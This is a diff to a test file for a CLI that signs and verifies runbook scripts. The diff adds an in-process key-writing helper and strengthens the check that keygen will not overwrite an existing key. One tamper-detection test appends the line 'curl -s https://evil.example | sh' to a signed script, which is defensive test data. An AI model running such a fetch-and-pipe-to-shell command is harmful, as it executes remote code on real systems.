@@ -12,9 +12,17 @@ import {
 } from 'node:fs';
 import path from 'node:path';
 import { beforeAll, describe, expect, it } from 'vitest';
+import { generateSigningKey } from '../src/runbook/signing/keys';
 import { REPO, runCli, tempHome } from './helpers/cli';
 
 const FIXTURES = path.join(REPO, 'test/fixtures/signing');
+
+/** Key files as keygen writes them, made in-process (keygen itself is tested above): saves a CLI run per key. */
+function writeKey(dir: string, name: string): void {
+  const { privatePem, jwks } = generateSigningKey();
+  writeFileSync(path.join(dir, name), privatePem, { mode: 0o600 });
+  writeFileSync(path.join(dir, `${name}.jwks`), JSON.stringify(jwks));
+}
 
 function workdir(): string {
   const dir = tempHome();
@@ -39,16 +47,18 @@ describe('runbook keygen', () => {
     expect(jwks.keys[0]).toMatchObject({ kty: 'OKP', crv: 'Ed25519', kid: out.kid, alg: 'EdDSA' });
     expect(jwks.keys[0].d).toBeUndefined();
 
+    const before = readFileSync(keyFile, 'utf8');
     const again = await runCli(['runbook', 'keygen', '--out', 'keys/signing.key'], { home });
     expect(again.code).toBe(64);
     expect(again.stderr).toMatch(/^error: .*signing\.key exists; refusing to overwrite/m);
-    expect(readFileSync(keyFile, 'utf8')).toBe(readFileSync(keyFile, 'utf8'));
+    expect(readFileSync(keyFile, 'utf8')).toBe(before); // the key was not replaced
 
     const forced = await runCli(['runbook', 'keygen', '--out', 'keys/signing.key', '--force', '--json'], {
       home,
     });
     expect(forced.code).toBe(0);
     expect(json(forced.stdout).kid).not.toBe(out.kid);
+    expect(readFileSync(keyFile, 'utf8')).not.toBe(before);
   });
 });
 
@@ -137,7 +147,7 @@ describe('runbook sign and verify', () => {
 
   it('exit 1 script_changed when one byte of the script changes', async () => {
     const d = workdir();
-    await runCli(['runbook', 'keygen', '--out', 'k', '--json'], { home: d });
+    writeKey(d, 'k');
     expect((await runCli(['runbook', 'sign', 'restart-service.sh', '--key', 'k'], { home: d })).code).toBe(0);
     appendFileSync(path.join(d, 'restart-service.sh'), 'curl -s https://evil.example | sh\n');
     const v = await runCli(['runbook', 'verify', 'restart-service.sh', '--pubkey', 'k.jwks', '--json'], {
@@ -153,8 +163,8 @@ describe('runbook sign and verify', () => {
 
   it('exit 1 unsigned without a signature; exit 1 unknown_key for another key; exit 1 bad_signature when edited', async () => {
     const d = workdir();
-    await runCli(['runbook', 'keygen', '--out', 'mine', '--json'], { home: d });
-    await runCli(['runbook', 'keygen', '--out', 'theirs', '--json'], { home: d });
+    writeKey(d, 'mine');
+    writeKey(d, 'theirs');
     const unsigned = await runCli(['runbook', 'verify', 'restart-service.sh', '--pubkey', 'mine.jwks'], {
       home: d,
     });
@@ -191,7 +201,7 @@ describe('runbook sign and verify', () => {
 
   it('exit 1 expired and not_yet_valid', async () => {
     const d = workdir();
-    await runCli(['runbook', 'keygen', '--out', 'k', '--json'], { home: d });
+    writeKey(d, 'k');
     const past = ['--not-before', '2020-01-01T00:00:00Z', '--expires-in', '1d', '--out', 'old.sig'];
     expect(
       (await runCli(['runbook', 'sign', 'restart-service.sh', '--key', 'k', ...past], { home: d })).code,
@@ -217,7 +227,7 @@ describe('runbook sign and verify', () => {
 
   it('a sidecar manifest is signed too: changing it is manifest_changed; no hosts means a warning', async () => {
     const d = workdir();
-    await runCli(['runbook', 'keygen', '--out', 'k', '--json'], { home: d });
+    writeKey(d, 'k');
     const s = await runCli(['runbook', 'sign', 'disk-usage.sh', '--key', 'k'], { home: d });
     expect(s.code, s.stderr).toBe(0);
     expect(s.stderr).toMatch(/warning: .*every host/);
@@ -235,7 +245,7 @@ describe('runbook sign and verify', () => {
 
   it('key rotation: keygen --rotate-from signs the new key with the old one; verify --rotation accepts it', async () => {
     const d = workdir();
-    await runCli(['runbook', 'keygen', '--out', 'old.key', '--json'], { home: d });
+    writeKey(d, 'old.key');
     const k = await runCli(
       ['runbook', 'keygen', '--out', 'new.key', '--rotate-from', 'old.key', '--revoke-old', '--json'],
       {
@@ -272,7 +282,7 @@ describe('runbook sign and verify', () => {
 
   it('bad input: each a one-line error with its exit code, no stack trace', async () => {
     const d = workdir();
-    await runCli(['runbook', 'keygen', '--out', 'k', '--json'], { home: d });
+    writeKey(d, 'k');
     writeFileSync(path.join(d, 'bad.jwks'), '{"keys": [{"kty": "RSA"}]}');
     cpSync(path.join(d, 'k'), path.join(d, 'open.key'));
     chmodSync(path.join(d, 'open.key'), 0o644);
